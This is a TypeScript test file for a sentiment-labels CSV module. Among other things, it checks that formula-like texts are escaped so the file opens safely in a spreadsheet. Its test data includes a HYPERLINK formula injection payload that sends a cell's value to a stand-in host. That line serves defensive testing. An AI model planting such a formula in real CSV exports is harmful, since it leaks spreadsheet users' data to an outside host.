// The user's own sentiment labels (src/core/labels.ts): a text,sentiment CSV the Train view can train on.
import assert from 'node:assert/strict';
import * as fs from 'node:fs/promises';
import * as os from 'node:os';
import * as path from 'node:path';
import { readLabels, saveLabel } from '../../src/core/labels';
import { readTable } from '../../src/core/train/csv';
import { UserError } from '../../src/core/types';

describe('sentiment labels file', () => {
  let dir: string;
  beforeEach(async () => { dir = await fs.mkdtemp(path.join(os.tmpdir(), 'pf-labels-')); });
  afterEach(async () => { await fs.rm(dir, { recursive: true, force: true }); });

  it('starts empty, keeps one row per text (the latest label wins) and quotes what CSV needs', async () => {
    const file = path.join(dir, 'sub', 'sentiment-labels.csv');
    assert.equal((await readLabels(file)).size, 0);
    assert.equal(await saveLabel(file, 'Crashes on startup since the update.', 'negative'), 1);
    assert.equal(await saveLabel(file, 'Fast, "clean" and\nsimple', 'positive'), 2);
    assert.equal(await saveLabel(file, 'Crashes on startup since the update.', 'neutral'), 2);
    assert.equal(await saveLabel(file, ' NA ', 'neutral'), 3);
    const labels = await readLabels(file);
    assert.deepEqual([...labels], [['Fast, "clean" and\nsimple', 'positive'], ['Crashes on startup since the update.', 'neutral'], [' NA ', 'neutral']]);
    // a table the trainer reads as it is: two columns, the texts intact
    const t = await readTable(file);
    assert.deepEqual(t.columns, ['text', 'sentiment']);
    assert.deepEqual(t.data[1], ['positive', 'neutral', 'neutral']);
    assert.equal(t.data[0][0], 'Fast, "clean" and\nsimple');
    // no temp file left beside it
    assert.deepEqual(await fs.readdir(path.dirname(file)), ['sentiment-labels.csv']);
  });

  it('the workspace labels file opens safely in a spreadsheet: formula-like texts start with an apostrophe, read back as written', async () => {
    const file = path.join(dir, '.product-forge', 'labels', 'sentiment-labels.csv');
    const texts = ['=HYPERLINK("http://x/?"&A1,"click")', '+1 for dark mode', "'quoted from the call", '-0.5', 'plain text'];
    for (const t of texts) await saveLabel(file, t, 'neutral');
    const raw = await fs.readFile(file, 'utf8');
    assert.deepEqual(raw.trim().split('\n').slice(1).map((l) => l.replace(/,neutral$/, '')), ['"\'=HYPERLINK(""http://x/?""&A1,""click"")"', "'+1 for dark mode", "''quoted from the call", '-0.5', 'plain text']);
    assert.deepEqual([...(await readLabels(file)).keys()], texts);
    // what the Train view trains on and what Analyze Feedback reads: the texts as written
    assert.deepEqual((await readTable(file)).data[0], texts);
    const { readFeedbackFile } = await import('../../src/core/readers');
    assert.deepEqual((await readFeedbackFile(file)).items.map((i) => i.text), texts);
    // a labels file written before the escape: a text that starts with an apostrophe reads as written
    await fs.writeFile(file, "text,sentiment\n'quoted' is how I feel,positive\n");
    assert.deepEqual([...(await readLabels(file)).keys()], ["'quoted' is how I feel"]);
    await saveLabel(file, 'another', 'neutral');
    assert.deepEqual([...(await readLabels(file)).keys()], ["'quoted' is how I feel", 'another']);
    // predictions of the labels file are as safe as it: escaped; at their default place beside it they read back as
    // written, elsewhere a formula-like text keeps the apostrophe a spreadsheet needs
    await fs.writeFile(file, '');
    await fs.rm(file);
    const six = ['=SUM(A1) broke my sheet', '+1 love it', '- crashes again', 'great app', 'slow and buggy', 'really nice'];
    for (const [i, t] of six.entries()) await saveLabel(file, t, i % 2 ? 'positive' : 'negative');
    const { trainClassifier } = await import('../../src/core/train/trainer');
    const { saveClassifier } = await import('../../src/core/train/artifact');
    const { predictFile } = await import('../../src/core/train/predict');
    const model = await saveClassifier(await trainClassifier(await readTable(file), { target: 'sentiment', features: ['text'], model: 'logreg', testSplit: 0.34 }), { parent: dir, name: 'm' });
    const { defaultPredictionsPath } = await import('../../src/core/train/predict');
    const beside = await defaultPredictionsPath(file);
    assert.equal(path.basename(beside), 'sentiment-labels.predictions.csv');
    await predictFile(model, file, beside);
    assert.match(await fs.readFile(beside, 'utf8'), /\n'=SUM\(A1\) broke my sheet,/);
    assert.deepEqual((await readTable(beside)).data[0], six);
    const out = path.join(dir, 'labels.predictions.csv');
    await predictFile(model, file, out);
    assert.deepEqual((await readTable(out)).data[0], six.map((t) => (/^[=+-]/.test(t) ? `'${t}` : t)));
    // a labels file anywhere else is written as it is (nothing would undo an escape there)
    const other = path.join(dir, 'sentiment-labels.csv');
    await saveLabel(other, '+1 for dark mode', 'positive');
    assert.equal(await fs.readFile(other, 'utf8'), 'text,sentiment\n+1 for dark mode,positive\n');
  });

  it('refuses an empty text and a file that is not a labels file', async () => {
    const file = path.join(dir, 'l.csv');
    await assert.rejects(saveLabel(file, '  ', 'negative'), UserError);
    await fs.writeFile(file, 'a,b\n1,2\n');
    await assert.rejects(saveLabel(file, 'x', 'negative'), (e: unknown) => e instanceof UserError && /not a labels file/.test(e.message));
    assert.equal(await fs.readFile(file, 'utf8'), 'a,b\n1,2\n', 'the other file is untouched');
    // a labels file the user extended (another column, another label) is not rewritten without them
    for (const content of ['text,sentiment,who\nslow,negative,ann\n', 'text,sentiment\nslow,negative\nok-ish,mixed\n']) {
      await fs.writeFile(file, content);
      await assert.rejects(saveLabel(file, 'fast', 'positive'), (e: unknown) => e instanceof UserError && /which saving a label would drop; it is left as it is/.test(e.message));
      assert.equal(await fs.readFile(file, 'utf8'), content);
    }
  });
});
